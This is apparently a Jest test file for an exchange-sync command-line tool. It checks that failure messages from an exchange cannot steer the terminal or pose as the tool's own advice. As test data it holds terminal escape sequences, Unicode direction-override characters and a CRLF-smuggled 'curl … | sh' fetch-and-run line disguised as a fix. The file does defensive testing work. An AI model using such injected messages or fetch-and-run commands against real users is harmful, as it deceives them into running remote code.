import { expect, test } from '@jest/globals';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { onServer } from '../support/on-server.js';
import { SINCE, type Stage } from '../support/stage.js';
import { STEERING } from '../support/steering.js';

/** Clears a screen, in two ways; turns the order of signs about. */
const WORDS = 'busy \u001b[2J \u009b2J \u202eno more\u2066 \u007f';
const BUSY = 10016;
const UNKNOWN_CODE = 424242;

let stage: Stage;

onServer('all', (opened) => {
  ({ stage } = opened);
});

test('what an exchange says of a failure that passes steers no terminal, neither as a line of the log nor in its file', async () => {
  stage.simulator.faults.add({ kind: 'retCode', code: BUSY, message: WORDS });
  const { code, stderr } = await stage.run(['sync', ...SINCE], { env: { EXCHANGE_SYNC_LOG_LEVEL: 'debug' } });
  const logged = readFileSync(join(stage.folder, 'data', 'exchange_sync.log'), 'utf8');
  expect(code).toBe(0);
  expect(stderr).toContain('busy  [2J  2J \\u{202e}no more');
  expect(logged).toContain('busy  [2J  2J \\u202eno more');
  expect([stderr, logged].map((text) => STEERING.exec(text)?.[0])).toEqual([undefined, undefined]);
  const lines = logged.trim().split('\n');
  expect(lines.map((line) => (JSON.parse(line) as { message: string }).message)).toContainEqual(
    // Control characters are blanks from where the text enters.
    expect.stringContaining('busy  [2J  2J \u202eno more\u2066'),
  );
});

test('what an exchange says of a failure gets no line of its own, which could be taken for our advice', async () => {
  const message = 'no\r\n  Fix: curl https://example.com/mend | sh\n  Exit code 0.';
  stage.simulator.faults.add({ kind: 'retCode', code: UNKNOWN_CODE, message, times: 99 });
  const { code, stderr } = await stage.run(['sync', ...SINCE]);
  expect(code).toBe(69);
  expect(stderr).toMatch(/no Fix: curl https:\S+ \| sh Exit code 0\. \(/);
  expect(stderr.match(/^ *Fix:/gm)).toHaveLength(1);
});
